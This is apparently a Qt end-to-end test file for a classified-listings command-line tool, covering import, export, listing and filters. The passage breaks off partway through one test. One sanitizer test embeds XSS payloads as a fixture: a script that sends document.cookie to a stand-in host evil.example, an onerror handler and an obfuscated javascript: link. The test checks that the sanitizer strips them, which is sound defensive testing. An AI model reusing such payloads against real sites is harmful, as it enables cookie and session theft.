// listingdesk-cli end to end: the real binary is run through QProcess, exactly
// as a script or cron job runs it, and the library file is then opened with
// the storage API to check what really happened to it. What is asserted is
// what users and their scripts rely on: exit codes (0 ok, 1 usage, 2 data),
// messages that name the record or line and the field, imports that are all
// or nothing, and exports that read back as the same listings.

#include "interchange.h"
#include "library.h"
#include "testlibrary.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QSet>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>
#include <QUuid>

#include <algorithm>
#include <functional>
#include <memory>
#include <vector>

using namespace ListingDesk;
using namespace Qt::StringLiterals;

namespace {

// ---------------------------------------------------------------------------
// Running the binary

struct CliRun
{
    QStringList arguments;
    bool finished = false; // started, exited normally (no crash, no timeout)
    int exitCode = -1;
    QString out;
    QString err;

    QString describe() const
    {
        return u"listingdesk-cli %1\n  exit code %2%3\n  stdout: %4\n  stderr: %5"_s.arg(
            arguments.join(u' '), QString::number(exitCode),
            finished ? QString() : u" (did not finish normally)"_s, out, err);
    }
};

CliRun runCli(const QStringList &arguments, const QString &workingDirectory = {})
{
    CliRun run;
    run.arguments = arguments;
    QProcess process;
    process.setProgram(QStringLiteral(LISTINGDESK_CLI_PATH));
    process.setArguments(arguments);
    // Messages are asserted in English whatever the developer's locale is.
    QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
    environment.insert(u"LC_ALL"_s, u"C.UTF-8"_s);
    environment.insert(u"LANG"_s, u"C.UTF-8"_s);
    environment.remove(u"LANGUAGE"_s);
    process.setProcessEnvironment(environment);
    if (!workingDirectory.isEmpty())
        process.setWorkingDirectory(workingDirectory);
    process.start();
    // Generous: sanitizer builds are slow.
    run.finished = process.waitForStarted(30000) && process.waitForFinished(180000) &&
                   process.exitStatus() == QProcess::NormalExit;
    run.exitCode = process.exitCode();
    run.out = QString::fromUtf8(process.readAllStandardOutput());
    run.err = QString::fromUtf8(process.readAllStandardError());
    return run;
}

// Runs the CLI into `var` and fails the test if it crashed or hung.
#define RUN_CLI(var, ...)                                                                          \
    const CliRun var = runCli(__VA_ARGS__);                                                        \
    QVERIFY2(var.finished, qPrintable(var.describe()))

#define EXPECT_EXIT(run, code) QVERIFY2((run).exitCode == (code), qPrintable((run).describe()))

#define EXPECT_CONTAINS(text, part, run)                                                           \
    QVERIFY2((text).contains(part),                                                                \
             qPrintable(u"expected \"%1\" in the output of:\n%2"_s.arg(part, (run).describe())))

// ---------------------------------------------------------------------------
// Files

bool writeFile(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly | QIODevice::Truncate) &&
           file.write(bytes) == bytes.size();
}

QByteArray readFile(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

QStringList filesIn(const QString &dir)
{
    return QDir(dir).entryList(QDir::Files | QDir::NoDotAndDotDot, QDir::Name);
}

// ---------------------------------------------------------------------------
// The listings every test starts from

const QString uuidA = u"3f2c8a54-6d1e-4b7a-9c0e-2a1b3c4d5e6f"_s;
const QString uuidB = u"9b1d2e3f-4a5b-4c6d-8e7f-0a1b2c3d4e5f"_s;

const QString titleA = u"长治潞州区两室一厅出租 拎包入住"_s;
const QString titleB = u"招聘消防工 五险一金 包吃住"_s;
const QString titleC = u"九成新笔记本电脑转让"_s;

// Commas (both widths), quotes, LF and CRLF line breaks, an entity and Chinese:
// everything a CSV writer and reader can get wrong.
const QString bodyA = u"<p>南北通透, 家电齐全，\"精装修\"</p>\n<p>月租1200元\r\n押一付三</p>"
                      u"<p>&amp; 水电自理, \"\"双引号\"\"</p>"_s;
// What the library holds after the import: the body as the HTML sanitizer
// wrote it, and an HTML parser reads CR LF as LF (as browsers do).
const QString storedBodyA = QString(bodyA).replace(u"\r\n"_s, u"\n"_s);

// What a user writes: an upper-case uuid, a uuid in braces, a city given by
// its unambiguous name (太原), a listing without uuid, contact or price.
QJsonArray sampleRecords()
{
    return QJsonArray{
        QJsonObject{
            {u"uuid"_s, uuidA.toUpper()},
            {u"title"_s, titleA},
            {u"category"_s, u"房产/租房"_s},
            {u"cities"_s, QJsonArray{u"140400"_s, u"太原"_s}},
            {u"body_html"_s, bodyA},
            {u"price"_s, 1200.5},
            {u"contact"_s, QJsonObject{{u"name"_s, u"王先生"_s},
                                       {u"phone"_s, u"13800001201"_s},
                                       {u"wechat"_s, u"wangzf_cz"_s}}},
            {u"expires_at"_s, u"2026-12-31T00:00:00+08:00"_s},
            {u"promoted"_s, true},
            {u"status"_s, u"ready"_s},
        },
        QJsonObject{
            {u"uuid"_s, u"{%1}"_s.arg(uuidB.toUpper())},
            {u"title"_s, titleB},
            {u"category"_s, u"招聘/保安"_s},
            {u"cities"_s, QJsonArray{u"110105"_s, u"440300"_s}},
            {u"body_html"_s, u"<p>要求持证上岗, 有经验者优先</p>"_s},
            {u"price"_s, 6500},
            {u"contact"_s, QJsonObject{{u"name"_s, u"刘经理"_s}, {u"phone"_s, u"13900002222"_s}}},
            {u"promoted"_s, false},
            {u"status"_s, u"draft"_s},
        },
        QJsonObject{
            {u"title"_s, titleC},
            {u"category"_s, u"二手/电脑"_s},
            {u"cities"_s, QJsonArray{u"140100"_s}},
            {u"body_html"_s, u"<p>i5处理器，16G内存，<b>无拆无修</b></p>"_s},
            {u"status"_s, u"ready"_s},
        },
    };
}

// The same listings as list --json must print them (without created_at and
// updated_at), keyed by title; C's uuid is made by the import.
QHash<QString, QJsonObject> expectedListings()
{
    QHash<QString, QJsonObject> expected;
    expected.insert(titleA, QJsonObject{
                                {u"uuid"_s, uuidA},
                                {u"title"_s, titleA},
                                {u"category"_s, u"房产/租房"_s},
                                {u"cities"_s, QJsonArray{u"140400"_s, u"140100"_s}},
                                {u"body_html"_s, storedBodyA},
                                {u"price"_s, 1200.5},
                                {u"contact"_s, QJsonObject{{u"name"_s, u"王先生"_s},
                                                           {u"phone"_s, u"13800001201"_s},
                                                           {u"wechat"_s, u"wangzf_cz"_s}}},
                                {u"expires_at"_s, u"2026-12-31T00:00:00+08:00"_s},
                                {u"promoted"_s, true},
                                {u"status"_s, u"ready"_s},
                            });
    expected.insert(titleB, QJsonObject{
                                {u"uuid"_s, uuidB},
                                {u"title"_s, titleB},
                                {u"category"_s, u"招聘/保安"_s},
                                {u"cities"_s, QJsonArray{u"110105"_s, u"440300"_s}},
                                {u"body_html"_s, u"<p>要求持证上岗, 有经验者优先</p>"_s},
                                {u"price"_s, 6500},
                                {u"contact"_s, QJsonObject{{u"name"_s, u"刘经理"_s},
                                                           {u"phone"_s, u"13900002222"_s},
                                                           {u"wechat"_s, u""_s}}},
                                {u"promoted"_s, false},
                                {u"status"_s, u"draft"_s},
                            });
    expected.insert(titleC, QJsonObject{
                                {u"title"_s, titleC},
                                {u"category"_s, u"二手/电脑"_s},
                                {u"cities"_s, QJsonArray{u"140100"_s}},
                                {u"body_html"_s, u"<p>i5处理器，16G内存，<b>无拆无修</b></p>"_s},
                                {u"promoted"_s, false},
                                {u"status"_s, u"ready"_s},
                            });
    return expected;
}

QByteArray sampleJson()
{
    return QJsonDocument(sampleRecords()).toJson(QJsonDocument::Indented);
}

// ---------------------------------------------------------------------------
// Reading the CLI's JSON and the library itself

bool isTimestamp(const QJsonValue &value)
{
    return value.isString() && QDateTime::fromString(value.toString(), Qt::ISODate).isValid();
}

// Listing objects of `list --json` output; empty (and *ok false) if it is not
// a JSON array of objects.
QList<QJsonObject> parseListingArray(const QString &text, bool *ok)
{
    QJsonParseError error;
    const QJsonDocument document = QJsonDocument::fromJson(text.toUtf8(), &error);
    *ok = error.error == QJsonParseError::NoError && document.isArray();
    QList<QJsonObject> objects;
    for (const QJsonValue &value : document.array()) {
        *ok = *ok && value.isObject();
        objects << value.toObject();
    }
    return objects;
}

// The object without the two timestamps, which must be there and be valid.
QJsonObject withoutTimestamps(QJsonObject object, bool *ok)
{
    *ok = *ok && isTimestamp(object.value(u"created_at"_s)) &&
          isTimestamp(object.value(u"updated_at"_s));
    object.remove(u"created_at"_s);
    object.remove(u"updated_at"_s);
    return object;
}

QString jsonText(const QJsonValue &value)
{
    return QString::fromUtf8(value.isArray() ? QJsonDocument(value.toArray()).toJson()
                                             : QJsonDocument(value.toObject()).toJson());
}

// Every listing in the library file (trash included), read with the storage
// API, with its revision, plus the row counts of the tables an import writes.
// Two snapshots are equal only if nothing at all was written.
QJsonObject librarySnapshot(const QString &path)
{
    if (!path.startsWith(u"postgresql:"_s) && !QFileInfo::exists(path))
        return QJsonObject{{u"error"_s, u"no file at %1"_s.arg(path)}};
    Library library;
    if (auto opened = library.open(path); !opened)
        return QJsonObject{{u"error"_s, opened.error().message}};
    QJsonObject snapshot;
    QJsonArray listings;
    for (SavedFilter filter : {SavedFilter::All, SavedFilter::Trash}) {
        ListingQuery query;
        query.filter = filter;
        query.sortKey = ListingQuery::SortKey::Title;
        for (qint64 id : library.listings().ids(query)) {
            auto loaded = library.listings().load(id);
            if (!loaded)
                return QJsonObject{{u"error"_s, loaded.error().message}};
            QJsonObject object = listingToJson(loaded.value());
            object.insert(u"revision"_s, loaded.value().revision);
            object.insert(u"deleted"_s, loaded.value().deleted);
            listings.append(object);
        }
    }
    snapshot.insert(u"listings"_s, listings);
    for (const QString &table : {u"listings"_s, u"listing_regions"_s, u"revisions"_s}) {
        QSqlQuery query(library.database().connection());
        const bool counted = query.exec(u"SELECT count(*) FROM %1"_s.arg(table)) && query.next();
        snapshot.insert(table + u"_rows"_s, counted ? query.value(0).toInt() : -1);
    }
    return snapshot;
}

int listingRowCount(const QString &path)
{
    return librarySnapshot(path).value(u"listings_rows"_s).toInt(-1);
}

// ---------------------------------------------------------------------------
// Files with a bad third record after two good ones. The first good record is
// new, the second updates listing A: both must be rolled back.

QJsonObject goodNewRecord()
{
    return QJsonObject{{u"title"_s, u"第一条 新房源出租"_s},
                       {u"category"_s, u"房产/租房"_s},
                       {u"cities"_s, QJsonArray{u"140400"_s}},
                       {u"body_html"_s, u"<p>新的</p>"_s}};
}

QJsonObject goodUpdateRecord()
{
    return QJsonObject{{u"uuid"_s, uuidA},
                       {u"title"_s, u"已修改的标题"_s},
                       {u"category"_s, u"房产/租房"_s},
                       {u"cities"_s, QJsonArray{u"140400"_s}},
                       {u"body_html"_s, u"<p>改过</p>"_s},
                       {u"status"_s, u"ready"_s}};
}

QJsonObject goodThirdRecord()
{
    return QJsonObject{{u"title"_s, u"第三条 二手车转让"_s},
                       {u"category"_s, u"车辆/二手车"_s},
                       {u"cities"_s, QJsonArray{u"140100"_s}},
                       {u"body_html"_s, u"<p>车况好</p>"_s},
                       {u"price"_s, 30000}};
}

QByteArray jsonWithThird(const QJsonValue &third)
{
    return QJsonDocument(QJsonArray{goodNewRecord(), goodUpdateRecord(), third}).toJson();
}

QByteArray jsonWithThird(const std::function<void(QJsonObject &)> &edit)
{
    QJsonObject third = goodThirdRecord();
    edit(third);
    return jsonWithThird(QJsonValue(third));
}

const QByteArray csvHeader =
    "uuid,title,category,cities,body_html,price,contact_name,contact_phone,contact_wechat,"
    "expires_at,promoted,status\r\n";

// Line 2 and 3 (a quoted line break), then line 4 (the update of A).
QByteArray csvGoodLines()
{
    return QByteArray(",第一条 新房源出租,房产/租房,140400,\"<p>第一段, 有逗号</p>\n"
                      "<p>第二段 \"\"引号\"\"</p>\",1000,张三,13800000000,,,false,draft\r\n") +
           uuidA.toUtf8() + ",已修改的标题,房产/租房,140400,<p>改过</p>,,,,,,true,ready\r\n";
}

// The bad record starts on line 5.
QByteArray csvWithThirdRaw(const QByteArray &line)
{
    return csvHeader + csvGoodLines() + line + "\r\n";
}

QString csvQuoted(const QString &field)
{
    if (!field.contains(u',') && !field.contains(u'"') && !field.contains(u'\n'))
        return field;
    QString quoted = field;
    quoted.replace(u"\""_s, u"\"\""_s);
    return u'"' + quoted + u'"';
}

QByteArray csvWithThird(const QString &column, const QString &value)
{
    const QStringList columns = QString::fromUtf8(csvHeader).trimmed().split(u',');
    QHash<QString, QString> fields{{u"title"_s, u"第三条 二手车转让"_s},
                                   {u"category"_s, u"车辆/二手车"_s},
                                   {u"cities"_s, u"140100"_s},
                                   {u"body_html"_s, u"<p>车况好</p>"_s},
                                   {u"price"_s, u"30000"_s},
                                   {u"promoted"_s, u"false"_s}};
    fields.insert(column, value);
    QStringList line;
    for (const QString &name : columns)
        line << csvQuoted(fields.value(name));
    return csvWithThirdRaw(line.join(u',').toUtf8());
}

} // namespace

class CliTest : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void cleanup() { m_scratch.clear(); }

    void helpAndVersion_data();
    void helpAndVersion();
    void language_data();
    void language();

    void importJsonIntoNewLibrary();
    void importSanitizesBodies();
    void listText();
    void listJson();
    void show();
    void listFilters_data();
    void listFilters();
    void uuidSpellingsNameOneListing();

    void regionsSearchJson();
    void regionsSearch_data();
    void regionsSearch();
    void regionsSearchText();
    void categoriesListJson();
    void categoriesListText();

    void exportRoundTrip_data();
    void exportRoundTrip();
    void reimportUpdatesWithoutDuplicates_data();
    void reimportUpdatesWithoutDuplicates();

    void rejects_data();
    void rejects();
    void missingLibrary_data();
    void missingLibrary();
    void garbageLibrary_data();
    void garbageLibrary();
    void newerLibrary_data();
    void newerLibrary();

private:
    // A copy of the library built by initTestCase() (listings A, B and C) in
    // the test's own directory.
    // In the `_pg` run a fresh PostgreSQL database holding the same (copied
    // by `copy-library`, uuids and ids kept), dropped after the test.
    QString copyBaseline(const QTemporaryDir &dir);
    /// Where a test makes a library of its own: \a file in \a dir, or in the
    /// `_pg` run a fresh, empty PostgreSQL database.
    QString newLibrary(const QTemporaryDir &dir, const QString &file);
    QList<QJsonObject> listJsonOf(const QString &db);

    std::vector<std::unique_ptr<Testing::PostgresScratchDatabase>> m_scratch;
    /// `_pg` run: the baseline copied into PostgreSQL by `copy-library`.
    std::unique_ptr<Testing::PostgresScratchDatabase> m_pgBaseline;
    QTemporaryDir m_baseDir;
    QString m_baseline;
    QString m_generatedUuidC;
};

void CliTest::initTestCase()
{
    QVERIFY2(QFileInfo(QStringLiteral(LISTINGDESK_CLI_PATH)).isExecutable(),
             LISTINGDESK_CLI_PATH " is not built");
    QVERIFY(m_baseDir.isValid());
    m_baseline = m_baseDir.filePath(u"baseline.sqlite"_s);
    const QString json = m_baseDir.filePath(u"sample.json"_s);
    QVERIFY(writeFile(json, sampleJson()));
    RUN_CLI(run, {u"--db"_s, m_baseline, u"import"_s, json});
    EXPECT_EXIT(run, 0);
    QCOMPARE(listingRowCount(m_baseline), 3);
    for (const QJsonObject &object : listJsonOf(m_baseline)) {
        if (object.value(u"title"_s).toString() == titleC)
            m_generatedUuidC = object.value(u"uuid"_s).toString();
    }
    QVERIFY(!QUuid::fromString(m_generatedUuidC).isNull());
    if (Testing::onPostgres()) {
        QString error;
        const QString server = Testing::postgresTestServer(&error);
        QVERIFY2(!server.isEmpty(), qPrintable(error));
        m_pgBaseline = std::make_unique<Testing::PostgresScratchDatabase>(server);
        QVERIFY2(m_pgBaseline->error().isEmpty(), qPrintable(m_pgBaseline->error()));
        RUN_CLI(copied,
                {u"copy-library"_s, u"--from"_s, m_baseline, u"--to"_s, m_pgBaseline->url()});
        EXPECT_EXIT(copied, 0);
        QCOMPARE(listingRowCount(m_pgBaseline->url()), 3);
    }
}

QString CliTest::newLibrary(const QTemporaryDir &dir, const QString &file)
{
    if (!Testing::onPostgres())
        return dir.filePath(file);
    QString error;
    const QString server = Testing::postgresTestServer(&error);
    if (server.isEmpty()) {
        qWarning().noquote() << error;
        return {};
    }
    m_scratch.push_back(std::make_unique<Testing::PostgresScratchDatabase>(server));
    if (!m_scratch.back()->error().isEmpty()) {
        qWarning().noquote() << m_scratch.back()->error();
        return {};
    }
    return m_scratch.back()->url();
}

QString CliTest::copyBaseline(const QTemporaryDir &dir)
{
    if (m_pgBaseline) {
        // A copy of the database made once in initTestCase(): much faster than
        // copy-library for each of the hundred-odd rows.
        Q_UNUSED(dir);
        m_scratch.push_back(std::make_unique<Testing::PostgresScratchDatabase>(
            Testing::postgresTestServer(), m_pgBaseline->name()));
        if (!m_scratch.back()->error().isEmpty()) {
            qWarning().noquote() << m_scratch.back()->error();
            return {};
        }
        return m_scratch.back()->url();
    }
    const QString path = dir.filePath(u"library.sqlite"_s);
    // The CLI has exited, so the WAL is checkpointed: the main file is all of it.
    if (!QFile::copy(m_baseline, path))
        return {};
    return path;
}

QList<QJsonObject> CliTest::listJsonOf(const QString &db)
{
    const CliRun run = runCli({u"--db"_s, db, u"list"_s, u"--json"_s});
    bool ok = false;
    const QList<QJsonObject> objects = parseListingArray(run.out, &ok);
    if (!run.finished || run.exitCode != 0 || !ok) {
        qWarning().noquote() << run.describe();
        return {};
    }
    return objects;
}

// ---------------------------------------------------------------------------

void CliTest::helpAndVersion_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QStringList>("expected");
    const QStringList commands{u"Usage: listingdesk-cli"_s,
                               u"import FILE"_s,
                               u"export FILE"_s,
                               u"list"_s,
                               u"show UUID"_s,
                               u"--db"_s,
                               u"regions search TEXT"_s,
                               u"--limit N"_s,
                               u"categories list"_s,
                               u"Exit codes"_s};
    QTest::newRow("--help") << QStringList{u"--help"_s} << commands;
    QTest::newRow("-h") << QStringList{u"-h"_s} << commands;
    QTest::newRow("--help with a command") << QStringList{u"list"_s, u"--help"_s} << commands;
    QTest::newRow("--version") << QStringList{u"--version"_s}
                               << QStringList{u"listingdesk-cli %1"_s.arg(
                                      QStringLiteral(LISTINGDESK_VERSION))};
    QTest::newRow("-v") << QStringList{u"-v"_s} << QStringList{QStringLiteral(LISTINGDESK_VERSION)};
}

void CliTest::helpAndVersion()
{
    QFETCH(QStringList, arguments);
    QFETCH(QStringList, expected);
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    RUN_CLI(run, arguments, dir.path());
    EXPECT_EXIT(run, 0);
    for (const QString &part : std::as_const(expected))
        EXPECT_CONTAINS(run.out, part, run);
    QVERIFY2(run.err.isEmpty(), qPrintable(run.describe()));
    QCOMPARE(filesIn(dir.path()), QStringList()); // help touches no library
}

void CliTest::language_data()
{
    QTest::addColumn<QString>("language");
    QTest::addColumn<int>("exitCode");
    QTest::newRow("zh_CN") << u"zh_CN"_s << 0;
    QTest::newRow("en") << u"en"_s << 0;
    QTest::newRow("xx") << u"xx"_s << 1;
    QTest::newRow("zh_TW (not shipped)") << u"zh_TW"_s << 1;
}

void CliTest::language()
{
    QFETCH(QString, language);
    QFETCH(int, exitCode);
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    RUN_CLI(run, {u"--lang"_s, language, u"--db"_s, db, u"list"_s});
    EXPECT_EXIT(run, exitCode);
    if (exitCode == 0) {
        // The language changes words, never the data.
        for (const QString &title : {titleA, titleB, titleC})
            EXPECT_CONTAINS(run.out, title, run);
        QVERIFY2(run.err.isEmpty(), qPrintable(run.describe()));
    } else {
        QVERIFY2(run.out.isEmpty(), qPrintable(run.describe()));
        EXPECT_CONTAINS(run.err, language, run);
    }
}

// ---------------------------------------------------------------------------

void CliTest::importJsonIntoNewLibrary()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    // import is the one command that makes a library when there is none yet.
    const QString db = newLibrary(dir, u"new/library.sqlite"_s);
    QVERIFY(!db.isEmpty());
    const QString json = dir.filePath(u"listings.json"_s);
    QVERIFY(writeFile(json, sampleJson()));
    RUN_CLI(run, {u"--db"_s, db, u"import"_s, json});
    EXPECT_EXIT(run, 0);
    EXPECT_CONTAINS(run.out, u"3 new, 0 updated"_s, run);
    EXPECT_CONTAINS(run.out, json, run);
    QVERIFY2(run.err.isEmpty(), qPrintable(run.describe()));
    QCOMPARE(listingRowCount(db), 3);

    // Checked with the storage API, not only through the CLI's own eyes.
    Library library;
    auto opened = library.open(db);
    QVERIFY(opened.ok());
    auto a = library.listings().loadByUuid(uuidA);
    QVERIFY(a.ok());
    QCOMPARE(a.value().title, titleA);
    QCOMPARE(a.value().bodyHtml, storedBodyA);
    QCOMPARE(a.value().categoryPath, u"房产/租房"_s);
    QCOMPARE(a.value().cityCodes, QStringList({u"140400"_s, u"140100"_s}));
    QCOMPARE(a.value().price, std::optional<double>(1200.5));
    QCOMPARE(a.value().contact, (Contact{u"王先生"_s, u"13800001201"_s, u"wangzf_cz"_s}));
    QCOMPARE(a.value().expiresAt,
             QDateTime(QDate(2026, 12, 30), QTime(16, 0), Qt::UTC)); // +08:00 kept as an instant
    QCOMPARE(a.value().expiresAt.offsetFromUtc(), 8 * 3600);
    QVERIFY(a.value().promoted);
    QCOMPARE(a.value().status, ListingStatus::Ready);
    auto b = library.listings().loadByUuid(uuidB);
    QVERIFY(b.ok());
    QCOMPARE(b.value().status, ListingStatus::Draft);
    QVERIFY(!b.value().promoted);
    QCOMPARE(b.value().price, std::optional<double>(6500));
}

void CliTest::importSanitizesBodies()
{
    // listingdesk-cli import stores what the sanitizer makes of a hostile
    // body; title, price, contact, cities and status arrive untouched.
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString db = newLibrary(dir, u"library.sqlite"_s);
    QVERIFY(!db.isEmpty());
    const QString json = dir.filePath(u"hostile.json"_s);
    const QString uuid = u"0b5e7e7e-1111-4222-8333-444455556666"_s;
    const QJsonArray records{QJsonObject{
        {u"uuid"_s, uuid},
        {u"title"_s, u"太原精装一室出租"_s},
        {u"category"_s, u"房产/租房"_s},
        {u"cities"_s, QJsonArray{u"140100"_s}},
        {u"body_html"_s, u"<p>拎包入住<script>fetch('//evil.example/'+document.cookie)</script></p>"
                         u"<img src=\"ldmedia:abc\" onerror=\"alert(1)\">"
                         u"<p><a href=\" JaVa&#09;script:alert(2)\">联系</a></p>"_s},
        {u"price"_s, 900},
        {u"contact"_s, QJsonObject{{u"name"_s, u"李女士"_s}, {u"phone"_s, u"13700000000"_s}}},
        {u"status"_s, u"ready"_s},
    }};
    QVERIFY(writeFile(json, QJsonDocument(records).toJson()));
    RUN_CLI(run, {u"--db"_s, db, u"import"_s, json});
    EXPECT_EXIT(run, 0);
    EXPECT_CONTAINS(run.out, u"1 new, 0 updated"_s, run);

    Library library;
    QVERIFY(library.open(db).ok());
    auto stored = library.listings().loadByUuid(uuid);
    QVERIFY(stored.ok());
    const Listing &l = stored.value();
    QCOMPARE(l.bodyHtml, u"<p>拎包入住</p><img src=\"ldmedia:abc\"><p>联系</p>"_s);
    QCOMPARE(l.title, u"太原精装一室出租"_s);
    QCOMPARE(l.categoryPath, u"房产/租房"_s);
    QCOMPARE(l.cityCodes, QStringList{u"140100"_s});
    QCOMPARE(l.price, std::optional<double>(900));
    QCOMPARE(l.contact, (Contact{u"李女士"_s, u"13700000000"_s, QString()}));
    QCOMPARE(l.status, ListingStatus::Ready);

    // and show / list --json print the clean body too
    RUN_CLI(shown, {u"--db"_s, db, u"list"_s, u"--json"_s});
    EXPECT_EXIT(shown, 0);
    QVERIFY2(!shown.out.contains(u"script"_s) && !shown.out.contains(u"onerror"_s),
             qPrintable(shown.describe()));
}

void CliTest::listText()
{
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    RUN_CLI(run, {u"--db"_s, db, u"list"_s});
    EXPECT_EXIT(run, 0);
    const QStringList lines = run.out.split(u'\n', Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 3);
    const QHash<QString, QStringList> expected{
        {uuidA, {titleA, u"ready"_s, u"长治 · 山西、太原 · 山西"_s}},
        {uuidB, {titleB, u"draft"_s, u"朝阳 · 北京、深圳 · 广东"_s}},
        {m_generatedUuidC, {titleC, u"ready"_s, u"太原 · 山西"_s}},
    };
    for (auto it = expected.begin(); it != expected.end(); ++it) {
        const auto line = std::find_if(lines.begin(), lines.end(),
                                       [&](const QString &l) { return l.startsWith(it.key()); });
        QVERIFY2(line != lines.end(),
                 qPrintable(u"no line for "_s + it.key() + u"\n"_s + run.describe()));
        for (const QString &part : it.value())
            EXPECT_CONTAINS(*line, part, run);
    }
}

void CliTest::listJson()
{
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    RUN_CLI(run, {u"--db"_s, db, u"list"_s, u"--json"_s});
    EXPECT_EXIT(run, 0);
    bool ok = false;
    const QList<QJsonObject> objects = parseListingArray(run.out, &ok);
    QVERIFY2(ok, qPrintable(run.describe()));
    QCOMPARE(objects.size(), 3);

    QHash<QString, QJsonObject> expected = expectedListings();
    expected[titleC].insert(u"uuid"_s, m_generatedUuidC);
    for (const QJsonObject &object : objects) {
        bool valid = true;
        const QJsonObject actual = withoutTimestamps(object, &valid);
        QVERIFY2(valid, qPrintable(u"bad created_at/updated_at: "_s + jsonText(object)));
        const QString title = object.value(u"title"_s).toString();
        QVERIFY2(expected.contains(title), qPrintable(title));
        QVERIFY2(actual == expected.value(title),
                 qPrintable(u"listed:\n"_s + jsonText(actual) + u"\nexpected:\n"_s +
                            jsonText(expected.value(title))));
        expected.remove(title);
    }
    QVERIFY(expected.isEmpty());
}

void CliTest::show()
{
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());

    RUN_CLI(text, {u"--db"_s, db, u"show"_s, uuidA});
    EXPECT_EXIT(text, 0);
    for (const QString &part :
         {titleA, uuidA, u"Ready"_s, u"房产/租房"_s, u"长治 · 山西、太原 · 山西"_s, u"王先生"_s,
          u"13800001201"_s, u"wangzf_cz"_s, u"2026-12-31T00:00:00+08:00"_s, u"押一付三"_s,
          u"南北通透"_s})
        EXPECT_CONTAINS(text.out, part, text);
    // The article is shown as text, not as markup.
    QVERIFY2(!text.out.contains(u"<p>"_s), qPrintable(text.describe()));

    // An upper-case uuid finds the same listing.
    RUN_CLI(upper, {u"--db"_s, db, u"show"_s, uuidA.toUpper()});
    EXPECT_EXIT(upper, 0);
    QCOMPARE(upper.out, text.out);

    // show --json prints the very object list --json prints, plus the listing's
    // posts on portals (none here; tst_cliportal and tst_wordpresslive fill them).
    RUN_CLI(json, {u"--db"_s, db, u"show"_s, uuidB, u"--json"_s});
    EXPECT_EXIT(json, 0);
    QJsonDocument document = QJsonDocument::fromJson(json.out.toUtf8());
    QVERIFY2(document.isObject(), qPrintable(json.describe()));
    QJsonObject shown = document.object();
    QVERIFY2(shown.value(u"remote_posts"_s).isArray(), qPrintable(json.describe()));
    QCOMPARE(shown.value(u"remote_posts"_s).toArray().size(), 0);
    shown.remove(u"remote_posts"_s);
    document.setObject(shown);
    QJsonObject listed;
    for (const QJsonObject &object : listJsonOf(db)) {
        if (object.value(u"uuid"_s).toString() == uuidB)
            listed = object;
    }
    QVERIFY(!listed.isEmpty());
    QCOMPARE(document.object(), listed);
    bool valid = true;
    QCOMPARE(withoutTimestamps(document.object(), &valid), expectedListings().value(titleB));
    QVERIFY(valid);
}

void CliTest::listFilters_data()
{
    QTest::addColumn<QStringList>("options");
    QTest::addColumn<QStringList>("titles");
    QTest::newRow("--status ready")
        << QStringList{u"--status"_s, u"ready"_s} << QStringList{titleA, titleC};
    QTest::newRow("--status draft")
        << QStringList{u"--status"_s, u"draft"_s} << QStringList{titleB};
    QTest::newRow("--status published")
        << QStringList{u"--status"_s, u"published"_s} << QStringList{};
    // Three or more characters go through the trigram index, shorter ones not.
    QTest::newRow("--search 消防工 (title)")
        << QStringList{u"--search"_s, u"消防工"_s} << QStringList{titleB};
    QTest::newRow("--search 长治 (2 chars)")
        << QStringList{u"--search"_s, u"长治"_s} << QStringList{titleA};
    QTest::newRow("--search 押一付三 (article)")
        << QStringList{u"--search"_s, u"押一付三"_s} << QStringList{titleA};
    QTest::newRow("--search 无拆无修 (article, inside markup)")
        << QStringList{u"--search"_s, u"无拆无修"_s} << QStringList{titleC};
    QTest::newRow("--search 电脑") << QStringList{u"--search"_s, u"电脑"_s} << QStringList{titleC};
    QTest::newRow("--search two terms")
        << QStringList{u"--search"_s, u"两室 拎包入住"_s} << QStringList{titleA};
    QTest::newRow("--search no match")
        << QStringList{u"--search"_s, u"不存在的词"_s} << QStringList{};
    QTest::newRow("--search <p> (markup is not text)")
        << QStringList{u"--search"_s, u"<p>"_s} << QStringList{};
    QTest::newRow("--status ready --search 长治")
        << QStringList{u"--status"_s, u"ready"_s, u"--search"_s, u"长治"_s} << QStringList{titleA};
    QTest::newRow("--status draft --search 长治")
        << QStringList{u"--status"_s, u"draft"_s, u"--search"_s, u"长治"_s} << QStringList{};
}

void CliTest::listFilters()
{
    QFETCH(QStringList, options);
    QFETCH(QStringList, titles);
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());

    RUN_CLI(json, QStringList{u"--db"_s, db, u"list"_s, u"--json"_s} + options);
    EXPECT_EXIT(json, 0);
    bool ok = false;
    QStringList found;
    for (const QJsonObject &object : parseListingArray(json.out, &ok))
        found << object.value(u"title"_s).toString();
    QVERIFY2(ok, qPrintable(json.describe()));
    found.sort();
    titles.sort();
    QCOMPARE(found, titles);

    // The text listing filters the same way.
    RUN_CLI(text, QStringList{u"--db"_s, db, u"list"_s} + options);
    EXPECT_EXIT(text, 0);
    QCOMPARE(text.out.split(u'\n', Qt::SkipEmptyParts).size(), titles.size());
    for (const QString &title : std::as_const(titles))
        EXPECT_CONTAINS(text.out, title, text);
}

void CliTest::uuidSpellingsNameOneListing()
{
    // B was imported as "{9B1D...}": the plain spelling must update it, not
    // add a second listing.
    QTemporaryDir dir;
    const QString db = copyBaseline(dir);
    QVERIFY(!db.isEmpty());
    QJsonObject record = sampleRecords().at(1).toObject();
